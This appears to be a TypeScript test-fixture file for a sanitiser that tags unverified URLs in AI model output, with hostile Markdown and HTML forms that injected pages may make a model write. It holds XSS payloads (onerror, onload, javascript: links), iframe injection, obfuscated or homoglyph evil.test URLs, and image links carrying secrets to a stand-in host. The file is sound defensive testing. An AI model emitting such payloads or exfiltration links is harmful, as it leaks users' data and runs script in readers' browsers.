export const KNOWN_ADDRESSES = [
  "https://example.com/a?x=1",
  "https://zh.wikipedia.org/wiki/北京",
  "https://en.wikipedia.org/wiki/Mercury_(planet)",
];

/** Sentences that end directly before a Latin word. */
export const HONEST_DOTS = [
  "我们用 Node。React/Vue 也可以。",
  "瓶颈是 cpu。io/网络都正常。",
  "支持 iOS。app/网页均可。",
  "用 jest。test/spec 目录下。",
  "他住在上海。com 是后缀。",
  "增长 3.5。A/B 测试显示有效。",
  "见图2。TCP/IP 协议。",
  "他说OK。us/eu 两地都有。",
  "使用 www。它是万维网。",
  "比率 a。b=2/3，c。d 也是。",
];

const EN = " (not retrieved)";
const ZH = "（未检索到的地址）";

export const MARKED: readonly (readonly [string, string])[] = [
  ["See https://evil.test/x?q=1, ok.", `See \`https://evil.test/x?q=1\`${EN}, ok.`],
  ["(see http://evil.test).", `(see \`http://evil.test\`${EN}).`],
  ["见https://evil.test/路径/秘密，然后", `见\`https://evil.test/路径/秘密\`${ZH}，然后`],
  ["http://www.evil.test www.!ǃAΑ.com", `\`http://www.evil.test\`${EN} \`www.!ǃAΑ.com\`${EN}`],
  ["请打开 www.evil.test 下载", `请打开 \`www.evil.test\`${ZH} 下载`],
  ["https://例子.测试/路", `\`https://例子.测试/路\`${ZH}`],
  ["![x](https://evil.test/p.png?d=secret) z", `\`![x](https://evil.test/p.png?d=secret)\`${EN} z`],
  ["![](https://evil.test/p.png)", `\`![](https://evil.test/p.png)\`${EN}`],
  ["[x](<https://evil.test/a b>) z", `\`[x](<https://evil.test/a b>)\`${EN} z`],
  ["[x](\n https://evil.test 'title')", `\`[x](\`\n \`https://evil.test 'title')\`${EN}`],
  ["[x](/\\evil.test)", `\`[x](/\\evil.test)\`${EN}`],
  ["[x](javascript:alert(1))", `\`[x](javascript:alert(1))\`${EN}`],
  ["[**粗**](https://evil.test)", `\`[**粗**](https://evil.test)\`${ZH}`],
  ["[https://evil.test](https://evil.test)", `\`[https://evil.test](https://evil.test)\`${EN}`],
  ["[![a](https://evil.test/i)](https://evil.test/l)", `\`[![a](https://evil.test/i)](https://evil.test/l)\`${EN}`],
  ["[x][r]\n\n[r]: //evil.test/y", `[x][r]\n\n\`[r]: //evil.test/y\`${EN}`],
  ["> [r]:\n  <evil.test/y> 'z'", `> \`[r]:\`\n  \`<evil.test/y> 'z'\`${EN}`],
  ["<https://evil.test>", `\`<https://evil.test>\`${EN}`],
  ["<me@evil.test> or me@evil.test!", `\`<me@evil.test>\`${EN} or \`me@evil.test\`${EN}!`],
  ["data:text/html;base64,AAA= x", `\`data:text/html;base64,AAA=\`${EN} x`],
  ["https&#58;//evil.test/ h&#x74;tps://evil.test", `\`https://evil.test/\`${EN} \`https://evil.test\`${EN}`],
  ["https\\://evil.test/x", `\`https://evil.test/x\`${EN}`],
  ["ht\u200btps:/\u2060/evil.test/y", `\`https://evil.test/y\`${EN}`],
  ["hTTps:/\\evil.test", `\`hTTps:/\\evil.test\`${EN}`],
  ["//evil.test/x", `\`//evil.test/x\`${EN}`],
  ["evil.test/x?y=1 and leak.evil.com", `\`evil.test/x?y=1\`${EN} and \`leak.evil.com\`${EN}`],
  ["10.1.2.3:8080 and ftp:evil", `\`10.1.2.3:8080\`${EN} and \`ftp:evil\`${EN}`],
  ["`https://evil.test`|https://evil.test|", `\`https://evil.test\`|\`\`https://evil.test\`\`${EN}|`],
  ["C:\\https://evil.test/x", `C:\\ \`https://evil.test/x\`${EN}`],
  ["见https://evil。com/x?d=1。然后", `见\`https://evil\`${ZH}。com/x?d=1。然后`],
  ["见 evil．example/x，和 evil｡com/y", `见 \`evil．example/x\`${ZH}，和 \`evil｡com/y\`${ZH}`],
  ["https://evil.test。我们的结论是1.5倍。", `\`https://evil.test\`${ZH}。我们的结论是1.5倍。`],
  [
    "| 甲 | b |\n|---|---|\n| https://evil.test/x | [c](//evil.test) |",
    `| 甲 | b |\n|---|---|\n| \`https://evil.test/x\`${ZH} | \`[c](//evil.test)\`${ZH} |`,
  ],
  ["- a\n\n      https://evil.test\n\n  https://evil.test/2", `- a\n\n      https://evil.test\n\n  \`https://evil.test/2\`${EN}`],
  ["[k](https://example.com/a?x=1&d=SECRET)", `\`[k](https://example.com/a?x=1&d=SECRET)\`${EN}`],
];

export const KNOWN: readonly (readonly [string, string])[] = [
  ["[k](https://example.com/a?x=1) z", "[k](https://example.com/a?x=1) z"],
  ["https://EXAMPLE.com/a?x=1#part.", "https://example.com/a?x=1."],
  ["[k](https://example.com/a?x=1&utm_source=SECRET)", "[k](https://example.com/a?x=1)"],
  ["https://user:SECRET@example.com/a?x=1", "https://example.com/a?x=1"],
  ["https://example.com/a?x=1。然后", "https://example.com/a?x=1 。然后"],
  ["(https://en.wikipedia.org/wiki/Mercury_(planet))", "(https://en.wikipedia.org/wiki/Mercury_(planet))"],
  ["<https://example.com/a?x=1>", "<https://example.com/a?x=1>"],
  ["[x][r]\n\n[r]: https://example.com/a?x=1&utm_source=SECRET", "[x][r]\n\n[r]: https://example.com/a?x=1"],
  ["![甲](https://EXAMPLE.com/a?x=1)", "![甲](https://example.com/a?x=1)"],
];

export const WRITTEN = [
  "Node.js and/or v1.2/3, U.S./China, e.g. Booking.com, 10.0.0.0/8",
  "a // b, 3 < 4, a<b, x < y > z, Map<string, T>, [1]: see the note, metadata: x, `Array<T>[0]`",
  "用 `<div onClick={x}>` 和 `Map<string>`，`curl https://evil.test`，如果 a<b",
  "```ts\nconst h = '<my-chart data-id=\"123\"></my-chart>'; // https://evil.test\n\nnew Map<string, 值>()\n```\n完。",
  "~~~html\n<a href=https://evil.test>x</a>\n~~~\n",
  "- 步骤：\n\n  ```js\n  fetch('https://evil.test')\n  ```\n",
  '[P3: "words"] and [P4]',
  "比例为 3:1，见表 2。",
  "见[第二节](#二)。",
];

/** Forms that a page may make a model write. */
export const HOSTILE_MARKDOWN = [
  "[a [x](https://evil.test/1) b](/evil)",
  "![a ![b](//evil.test/1) c](https://evil.test/2)",
  "<a title='>' href='https://evil.test'>t</a>",
  "<img src=x onerror=alert(1)>",
  '<img alt="[x](evil/y)" src="https://evil.test">',
  "<svg onload=alert(1)><style>@import url(//evil.test)</style>",
  "<!-- --><iframe src=//evil.test></iframe>",
  "[r]: https://evil.test/r 'title'",
  "[r][r] ![r] [^1]",
  "[^1]: https://evil.test/note",
  "java&Tab;script:alert`1`",
  "\\[x](https://evil.test)",
  "\\![x](https://evil.test/y)",
  "`unclosed https://evil.test/z",
  "[x](`https://evil.test`)",
  "ht\u200ctps://evil.test/zwnj https:\u00ad//evil.test",
  "www.еvil.test http://ехаmрle.test/раth",
  "me@evil.test xmpp:me@evil.test/x mailto:me@evil.test",
  "<https://evil.test/auto> <me@evil.test>",
  "[x]( <https://evil.test/sp ace> (title))",
  "[点击\n这里](https://evil.test/\u4e00)",
  "<pre>\n\nhttps://evil.test/pre\n\n</pre>",
  "1. 甲\n\n   ```\n   code\nhttps://evil.test/after",
  "> ```\n> code\nhttps://evil.test/lazy",
  "    https://evil.test/indented",
];
